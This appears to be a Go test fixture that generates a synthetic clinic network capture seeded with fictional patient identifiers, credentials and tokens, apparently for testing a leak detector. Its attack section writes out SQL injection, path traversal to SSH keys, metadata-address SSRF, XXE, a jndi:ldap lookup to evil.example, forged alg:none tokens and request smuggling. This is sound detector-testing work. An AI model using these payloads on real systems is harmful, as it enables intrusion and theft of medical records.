package main

import (
	"bytes"
	"crypto/x509/pkix"
	"encoding/base64"
	"fmt"
	"strings"
	"testing"
)

// The people of the scene, and what they are known by. Each is a needle: none of it may leave.
const (
	family    = "Krishnamurthy"
	given     = "Meerabai"
	mail      = "meerabai.krishnamurthy@mailbox.example"
	phone     = "9840177263"
	birth     = "1957-03-14"
	birthHL7  = "19570314"
	mrn       = "7742093186"
	aadhaar   = "499118665246" // a number with a good check digit that nobody has
	abha      = "91438277160934"
	abhaName  = "meerabai1957@abdm"
	ssn       = "521387746"
	ssnDashed = "521-38-7746"
	street    = "47 Chandrasekharan Street"
	uuid      = "6f2b8c1e-94a7-4d03-b5e8-3c7710fd92ab"
	diagnosis = "Paranoid schizophrenia, relapsing"
	clinician = "dr.venkataraghavan"
	clerk     = "philomena.okonkwo"
	password  = "Tiruvannamalai#9"
	cookie    = "s3ss10nq7Zk2Vw9Xb4Lm8Tr"
	apiKey    = "ak_live_9fQ2mZ7xT4vB1nC8"
	opaque    = "opq-5JhR8wKd3YpN6sGc0aVf"
	webName   = "Sister Adaeze Brandtsson"
	webMail   = "adaeze.brandtsson@clinic.example"
	colleague = "Ramanathapuram"
)

// walked are the numbers of records that one account reads in a row.
func walked() (ids []string) {
	for i := range 60 {
		ids = append(ids, fmt.Sprint(3051740000+i))
	}
	return ids
}

var (
	tokenOf   = jwt(`{"iss":"https://idp.clinic.example","sub":"` + clinician + `","name":"Dr ` + colleague + `","email":"v.raghavan@clinic.example","role":"nurse","exp":1893456000}`)
	patientIn = jwt(`{"iss":"https://idp.clinic.example","sub":"` + mail + `","patient":"` + mrn + `","exp":1700000000}`)
)

// needles are the known values of the scene by what they are. Signatures and single parts of tokens are tokens too.
func needles() map[string]string {
	n := map[string]string{
		"family name": family, "given name": given, "mail address": mail, "phone": phone, "date of birth": birth, "date of birth in HL7": birthHL7,
		"MRN": mrn, "Aadhaar": aadhaar, "Aadhaar in groups": aadhaar[:4] + " " + aadhaar[4:8] + " " + aadhaar[8:], "ABHA": abha, "ABHA in groups": "91-4382-7716-0934",
		"ABHA address": abhaName, "SSN": ssn, "SSN with dashes": ssnDashed, "street": street, "UUID": uuid, "diagnosis": diagnosis, "clinician": clinician,
		"clerk": clerk, "password": password, "cookie": cookie, "API key": apiKey, "opaque token": opaque, "certificate name": webName,
		"certificate mail": webMail, "name in a claim": colleague, "mail in a claim": "v.raghavan@clinic.example", "token": tokenOf, "SMART token": patientIn,
		"basic": base64.StdEncoding.EncodeToString([]byte(clerk + ":" + password)),
	}
	for i, part := range strings.Split(tokenOf, ".")[1:] {
		n[fmt.Sprint("part of a token ", i)] = part
	}
	for i, id := range walked() {
		n[fmt.Sprint("record ", i)] = id
	}
	return n
}

func patient(id string) string {
	return fmt.Sprintf(`{"resourceType":"Patient","id":"%s","identifier":[{"system":"urn:mrn","value":"%s"},{"system":"https://healthid.ndhm.gov.in","value":"%s"},`+
		`{"system":"http://hl7.org/fhir/sid/us-ssn","value":"%s"},{"system":"https://uidai.gov.in","value":"%s"}],"name":[{"family":"%s","given":["%s"]}],`+
		`"telecom":[{"system":"phone","value":"+91%s"},{"system":"email","value":"%s"}],"birthDate":"%s","address":[{"line":["%s"]}],"text":{"div":"%s"}}`,
		id, mrn, abha, ssnDashed, aadhaar, family, given, phone, mail, birth, street, diagnosis)
}

const (
	jsonType = "application/json"
	fhirType = "application/fhir+json"
)

// play writes the scene: every way that we know for such values to travel, and to end in what is said of them. What
// opens its TLS goes to keys.
func (c *clinic) play(keys *bytes.Buffer) {
	bearer := "\nAuthorization: Bearer " + tokenOf
	c.spelled(bearer)
	c.attacked(bearer)
	c.others(keys)
	// A walk by one account, so that there is an incident with people in it.
	var talk []spoken
	for _, id := range walked() {
		talk = append(talk, ask("GET /fhir/Patient/"+id+bearer, "", "200 OK", fhirType, patient(id))...)
	}
	c.connection(8080, talk...)
}

// spelled has the values in every place of a request and an answer.
func (c *clinic) spelled(bearer string) {
	esc := strings.NewReplacer("@", "%40", " ", "%20")
	targets := []string{
		"/fhir/Patient/" + uuid, "/fhir/Patient?identifier=urn:mrn|" + mrn, "/fhir/Patient?family=" + family + "&birthdate=" + birth + "&email=" + esc.Replace(mail),
		"/fhir/Patient?name=%4Brishnamurthy&telecom=%2B91" + phone, "/api/v1/patients/" + family, "/api/v1/patients/" + given + "/notes", "/api/v1/users/" + clinician + "/inbox",
		"/people/" + family + "/" + birthHL7, "/hip/aadhaar/" + aadhaar, "/abdm/v1/health-id/" + abha, "/abdm/v1/profile/" + abhaName, "/ssn/" + ssnDashed,
		"/search?q=" + family + "+" + given, "/search?" + family, "/search;name=" + family + "/list", "/export/" + family + "_" + birthHL7 + ".pdf", "/login?user=" + clinician + "&password=" + strings.ReplaceAll(password, "#", "%23"),
		"/api/v1/session?access_token=" + tokenOf, "/api/v1/session?api_key=" + apiKey, "/callback#token=" + opaque, "http://" + clerk + ":pw@ehr.clinic.example/api/v1/x",
		"/wado?patientID=" + mrn + "&requestType=WADO", "/api/v1/appointments/" + phone + "?dob=" + birth,
	}
	for _, target := range targets {
		for _, status := range []string{"200 OK", "404 Not Found", "403 Forbidden"} {
			c.connection(8080, ask("GET "+target+bearer, "", status, fhirType, patient(uuid))...)
		}
	}
	for _, header := range []string{"X-Patient-Name: " + given + " " + family, "Referer: https://portal.example/patients/" + family + "?mrn=" + mrn,
		"Cookie: JSESSIONID=" + cookie + "; user=" + clinician, "X-API-Key: " + apiKey, "Authorization: Basic " + needles()["basic"], "Authorization: Bearer " + opaque,
		"Authorization: Bearer " + patientIn, "User-Agent: " + family + "-Viewer/1.0 (" + mail + "; " + phone + ")", "X-Forwarded-For: " + clinician + ", 10.9.8.7", "X-User-Id: " + clerk,
		"X-Remote-User: " + clinician, "X-Request-Id: " + mrn, "Origin: https://portal.example/" + family, "Content-Type: text/" + family, "Accept-Language: " + family} {
		c.connection(8080, ask("GET /api/v1/chart/"+mrn+"\n"+header, "", "200 OK", jsonType, patient(mrn))...)
		c.connection(8080, ask("GET /api/v1/me\n"+header, "", "500 Internal Server Error", jsonType, `{"error":"no such patient `+given+" "+family+`"}`)...)
	}
	person := `{"name":"` + given + " " + family + `","mrn":"` + mrn + `","dob":"` + birth + `","ssn":"` + ssnDashed + `","aadhaar":"` + aadhaar + `","email":"` + mail + `","note":"` + diagnosis + `"}`
	for _, b := range [][2]string{
		{jsonType, person}, {fhirType, patient(mrn)}, {"application/x-www-form-urlencoded", "name=" + given + "+" + family + "&mrn=" + mrn + "&dob=" + birth + "&email=" + esc.Replace(mail)},
		{"application/graphql", `query { patient(mrn: "` + mrn + `", name: "` + family + `") { name dob } }`},
		{jsonType, `{"query":"query Find($m: String){patient(mrn:$m){name}}","operationName":"` + family + `","variables":{"m":"` + mrn + `","name":"` + family + `"}}`},
		{"text/xml", `<Patient xmlns="http://hl7.org/fhir"><id value="` + mrn + `"/><name><family value="` + family + `"/></name><birthDate value="` + birth + `"/></Patient>`},
		{"text/csv", "mrn,name,dob,phone\n" + mrn + "," + family + "," + birth + "," + phone + "\n"},
		{"x-application/hl7-v2+er7", hl7v2}, {"multipart/form-data; boundary=xx", "--xx\r\nContent-Disposition: form-data; name=\"mrn\"; filename=\"" + family + ".pdf\"\r\n\r\n" + mrn + "\r\n--xx--\r\n"},
		{"application/soap+xml; action=\"urn:find\"", `<s:Envelope xmlns:s="http://www.w3.org/2003/05/soap-envelope"><s:Body><Find><mrn>` + mrn + `</mrn><name>` + family + `</name></Find></s:Body></s:Envelope>`},
	} {
		for _, method := range []string{"POST", "PUT", "PATCH", "DELETE"} {
			c.connection(8080, ask(method+" /api/v1/records\nContent-Type: "+b[0]+bearer, b[1], "422 Unprocessable Entity", b[0], b[1])...)
		}
	}
}

const hl7v2 = "MSH|^~\\&|REG|" + family + "|EHR|HOSP|202603020800||ADT^A01|M1|P|2.5\rPID|1||" + mrn + "^^^HOSP^MR~" + aadhaar + "^^^UIDAI^NI||" + family + "^" + given +
	"||" + birthHL7 + "|F|||" + street + "||" + phone + "\r"

// attacked has the values in what detectors speak about.
func (c *clinic) attacked(bearer string) {
	stack := "Traceback (most recent call last):\n  File \"/srv/app.py\", line 3\npsycopg2.errors.UndefinedColumn: column \"" + family + "\" does not exist\nLINE 1: SELECT * FROM patient WHERE mrn = '" + mrn + "'"
	for _, r := range []struct{ head, body, status, answer string }{
		{"GET /api/v1/patients?name=" + family + "%27%20OR%20%271%27=%271", "", "500 Internal Server Error", stack},
		{"GET /api/v1/patients?name=" + family + "%27%20UNION%20SELECT%20ssn%20FROM%20patient--", "", "200 OK", patient(mrn)},
		{"GET /api/v1/files?path=../../../../home/" + clinician + "/.ssh/id_rsa", "", "200 OK", patient(mrn)},
		{"POST /api/v1/fetch", `{"url":"http://169.254.169.254/latest/` + family + `"}`, "200 OK", patient(mrn)},
		{"POST /api/v1/patients", `{"name":"` + family + `","role":"admin","isAdmin":true,"balance":0,"mrn":"` + mrn + `"}`, "200 OK", patient(mrn)},
		{"POST /api/v1/xml", `<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///home/` + clinician + `/secret">]><x>&e;</x>`, "200 OK", family},
		{"GET /api/v1/x?q=$%7Bjndi:ldap://" + strings.ToLower(family) + ".evil.example/" + mrn + "%7D", "", "200 OK", "{}"},
		{"GET /actuator/env", "", "200 OK", `{"activeProfiles":[],"propertySources":[{"user":"` + clinician + `"}]}`},
		{"GET /api/v1/patients/" + mrn + "\nOrigin: https://evil.example", "", "200 OK\r\nAccess-Control-Allow-Origin: https://evil.example\r\nAccess-Control-Allow-Credentials: true", patient(mrn)},
		{"GET /api/v1/everything/$export?patient=" + mrn, "", "200 OK", "[" + strings.Repeat(patient(mrn)+",", 40) + patient(uuid) + "]"},
	} {
		for range 3 {
			c.connection(8080, ask(r.head+bearer, r.body, r.status, jsonType, r.answer)...)
			c.connection(8080, ask(r.head, r.body, r.status, jsonType, r.answer)...)
		}
	}
	var talk []spoken
	for i := range 25 { // one account and many passwords, then many accounts
		form := fmt.Sprintf("username=%s&password=%s%d", clinician, strings.ReplaceAll(password, "#", "%23"), i)
		talk = append(talk, ask("POST /login\nContent-Type: application/x-www-form-urlencoded", form, "401 Unauthorized", jsonType, `{"error":"wrong password for `+clinician+`"}`)...)
		form = fmt.Sprintf(`{"username":"%s%d","password":"%s"}`, clerk, i, password)
		talk = append(talk, ask("POST /api/v1/login\nContent-Type: application/json", form, "401 Unauthorized", jsonType, `{"error":"no user `+clerk+`"}`)...)
	}
	c.connection(8080, talk...)
	c.connection(8080, ask("POST /login\nContent-Type: application/x-www-form-urlencoded", "username=admin&password=admin", "200 OK\r\nSet-Cookie: JSESSIONID="+cookie, jsonType,
		`{"token":"`+opaque+`","user":"`+clinician+`"}`)...)
	none := strings.SplitN(tokenOf, ".", 2)[1]
	none = base64.RawURLEncoding.EncodeToString([]byte(`{"alg":"none"}`)) + "." + none[:strings.IndexByte(none, '.')] + "."
	c.connection(8080, ask("GET /fhir/Patient/"+mrn+"\nAuthorization: Bearer "+none, "", "200 OK", fhirType, patient(mrn))...)
	c.connection(8080, ask("GET /fhir/Patient/"+mrn+"\nAuthorization: Bearer "+patientIn, "", "200 OK", fhirType, patient(mrn))...)
	smuggled := "POST /api/v1/notes HTTP/1.1\r\nHost: ehr2.clinic.example\r\nHost: ehr.clinic.example\r\nTransfer-Encoding: chunked\r\nContent-Length: 6\r\n\r\n0\r\n\r\nGET /people/" + family + " HTTP/1.1\r\nX: "
	c.connection(8080, spoken{bytes: []byte(smuggled)}, spoken{true, []byte("HTTP/1.1 200 OK\r\nContent-Length: 0\r\n\r\n")})
}

// others has the values in other protocols than HTTP/1, and where nothing is what it seems.
func (c *clinic) others(keys *bytes.Buffer) {
	c.connection(8080, h2(c.t, [][2]string{{":method", "GET"}, {":scheme", "http"}, {":authority", "ehr.clinic.example"}, {":path", "/fhir/Patient/" + uuid + "?name=" + family},
		{"authorization", "Bearer " + opaque}, {"cookie", "JSESSIONID=" + cookie}, {"x-patient", mrn}}, patient(uuid))...)
	upgrade := "GET /ws/" + mrn + " HTTP/1.1\r\nHost: ehr.clinic.example\r\nUpgrade: websocket\r\nConnection: Upgrade\r\nSec-WebSocket-Version: 13\r\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\nCookie: JSESSIONID=" + cookie + "\r\n\r\n"
	c.connection(8080, spoken{bytes: []byte(upgrade)},
		spoken{true, []byte("HTTP/1.1 101 Switching Protocols\r\nUpgrade: websocket\r\nConnection: Upgrade\r\nSec-WebSocket-Accept: s3pPLMBiTxaQ9kYGzzhZRbK+xOo=\r\n\r\n")},
		frame(false, `{"op":"open","mrn":"`+mrn+`"}`), frame(true, patient(mrn)))
	ack := "MSH|^~\\&|EHR|HOSP|REG|HOSP|202603020800||ACK|M1|P|2.5\rMSA|AE|M1|" + family + " is unknown\r"
	c.connection(2575, spoken{bytes: []byte("\x0b" + hl7v2 + "\x1c\r")}, spoken{true, []byte("\x0b" + ack + "\x1c\r")})
	inside := ask("GET /fhir/Patient/"+mrn+"?name="+family, "", "200 OK", fhirType, patient(mrn))
	c.connection(8443, secured(c.t, pkix.Name{CommonName: webName, SerialNumber: "PA-" + mrn, Organization: []string{"Clinic"}}, webMail, keys, inside)...)
	c.connection(8080, spoken{bytes: []byte(family + " " + mrn + " is no HTTP at all\r\n\r\n")}, spoken{true, []byte("nor is " + mail + "\r\n")})
	c.connection(8080, spoken{bytes: []byte("GET /fhir/Patient/" + mrn + " HTTP/1.1\r\nHost: x\r\n" + family + "\r\n\r\n")}, spoken{true, []byte("HTTP/1.1 two " + family + "\r\n\r\n")})
}

// scene is the capture of the scene, and the secrets that open its TLS.
func scene(t *testing.T) (capture, keys []byte) {
	var out, secrets bytes.Buffer
	newClinic(t, &out).play(&secrets)
	return out.Bytes(), secrets.Bytes()
}
